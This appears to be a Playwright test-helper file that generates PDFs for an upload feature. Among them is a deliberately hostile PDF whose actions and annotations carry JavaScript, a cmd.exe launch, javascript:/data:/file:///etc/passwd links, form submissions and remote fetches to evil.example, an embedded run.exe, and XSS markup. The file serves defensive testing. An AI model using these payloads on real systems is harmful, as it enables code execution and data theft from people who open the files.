import { readFile } from 'node:fs/promises'
import { expect, type Locator, type Page } from '@playwright/test'

type Paper = { name: string; mimeType: string; buffer: Buffer }

/** A PDF with these paragraphs, as a word processor would write it. */
export async function paper(page: Page, name: string, paragraphs: string[]): Promise<Paper> {
  const printer = await page.context().browser()?.newPage()
  if (!printer) throw new Error('No browser')
  await printer.setContent(`<h1>Proposal</h1>${paragraphs.map((text) => `<p>${text}</p>`).join('')}`)
  const buffer = await printer.pdf({ format: 'A4' })
  await printer.context().close()
  return { name, mimeType: 'application/pdf', buffer }
}

/** Actions that a PDF can ask for, by what would be left behind: a script that runs, a program, another site. */
const actions: Record<string, string> = {
  javascript: '<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example"\\))>>',
  launch: '<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>',
  scriptLink: '<</S/URI/URI(javascript:alert\\(1\\))>>',
  dataLink: '<</S/URI/URI(data:text/html,<script>alert\\(1\\)</script>)>>',
  fileLink: '<</S/URI/URI(file:///etc/passwd)>>',
  otherFile: '<</S/GoToR/F<</FS/URL/F(https://evil.example/other.pdf)>>/D[0/Fit]/NewWindow true>>',
  inner: '<</S/GoToE/F(https://evil.example/inner.pdf)/D[0/Fit]/T<</R/C/N(a)>>>>',
  submit: '<</S/SubmitForm/F<</FS/URL/F(https://evil.example/form)>>/Flags 4>>',
  data: '<</S/ImportData/F(https://evil.example/data.fdf)>>',
  rendition: '<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>',
  hide: '<</S/Hide/T(field)/H false/Next<</S/JavaScript/JS(app.alert\\(1\\))>>>>',
  print: '<</S/Named/N/Print>>',
}

/** Annotations with those actions, and with words and files of their own. */
function hostileAnnotations(): string[] {
  const markup = '<img src=x onerror=alert\\(1\\)><script>document.title="run"</script>'
  const place = (at: number) =>
    `/Rect[${10 + 24 * (at % 12)} ${10 + 30 * Math.floor(at / 12)} ${30 + 24 * (at % 12)} ${30 + 30 * Math.floor(at / 12)}]`
  const rich = `/RC(<body xmlns="http://www.w3.org/1999/xhtml"><p>${markup}</p><img src="https://evil.example/a.png"/></body>)`
  return [
    ...Object.values(actions).map((action) => `/Subtype/Link/A${action}`),
    ...Object.values(actions).map(
      (action) =>
        `/Subtype/Widget/FT/Btn/Ff 65536/T(${markup})/TU(${markup})/MK<</CA(${markup})>>/A${action}/AA<</E${action}/Fo${action}/PV${action}>>`,
    ),
    `/Subtype/Widget/FT/Tx/T(field)/V(${markup})/AA<</K${actions.javascript}/F${actions.javascript}/C${actions.javascript}>>`,
    `/Subtype/Text/T(${markup})/Contents(${markup})${rich}/Open true`,
    `/Subtype/Highlight/QuadPoints[10 100 60 100 10 90 60 90]/T(${markup})/Contents(${markup})${rich}`,
    `/Subtype/FreeText/DA(/F1 9 Tf)/Contents(${markup})${rich}`,
    `/Subtype/FileAttachment/Name/Paperclip/Contents(${markup})/FS<</Type/Filespec/F(run.exe)/UF(<b>run.exe)/EF<</F 4 0 R>>>>`,
    '/Subtype/Screen/T(screen)/A<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/CT(video/mp4)/D<</FS/URL/F(https://evil.example/film.mp4)>>>>>>>>',
    '/Subtype/Movie/Movie<</F<</FS/URL/F(https://evil.example/film.avi)>>>>/A true',
    '/Subtype/Sound/Sound<</R 8000/F<</FS/URL/F(https://evil.example/sound)>>>>',
    '/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a.swf)<</FS/URL/F(https://evil.example/a.swf)>>]>>>>',
    '/Subtype/3D/3DD<</S/JavaScript/JS(app.alert\\(1\\))>>',
  ].map((annotation, at) => `<</Type/Annot${annotation}${place(at)}/F 4>>`)
}

/** A PDF that would run a script, and leave for another site, when it is opened by a program that lets it. */
export function pdfWithScript(): Paper {
  const annotations = hostileAnnotations()
  const fields = annotations.map((_, at) => `${6 + at} 0 R`).join(' ')
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction${actions.javascript}/AA<</WC${actions.javascript}/WP${actions.launch}>>/Names<</JavaScript<</Names[(a)${actions.javascript}]>>/EmbeddedFiles<</Names[(a)<</F(run.exe)/EF<</F 4 0 R>>>>]>>>>/AcroForm<</Fields[${fields}]/NeedAppearances true/XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert\\(1\\)</script></xdp:xdp>)>>/Outlines<</First 3 0 R>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>/XObject<</X<</Type/XObject/Subtype/Image/F<</FS/URL/F(https://evil.example/a.png)>>>>>>>>/AA<</O${actions.scriptLink}/C${actions.submit}>>/Annots[${fields}]>>`,
    '<</Length 50>>\nstream\nBT /F1 24 Tf 40 100 Td (Harmless words) Tj ET /X Do\nendstream',
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...annotations,
  ]
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const xref = text.length
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`
  text += `trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${xref}\n%%EOF\n`
  return { name: 'script.pdf', mimeType: 'application/pdf', buffer: Buffer.from(text, 'latin1') }
}

/** Clicks, and returns the bytes of the file that is downloaded. */
export async function downloadBy(target: Locator): Promise<Buffer> {
  const [download] = await Promise.all([target.page().waitForEvent('download'), target.click()])
  return await readFile(await download.path())
}

/** Chooses files in the picker of a stage: made ones, or one of the disk. */
export const addFiles = (page: Page, ...files: Paper[] | [string]) =>
  chooseFiles(page.getByRole('button', { name: 'Add files' }), ...files)

export async function chooseFiles(opener: Locator, ...files: Paper[] | [string]) {
  const [picker] = await Promise.all([opener.page().waitForEvent('filechooser'), opener.click()])
  await picker.setFiles(files as Paper[] | string[])
  // A browser tells of the same file only when it was not chosen before.
  await expect.poll(() => picker.element().evaluate((input) => (input as HTMLInputElement).value)).toBe('')
}
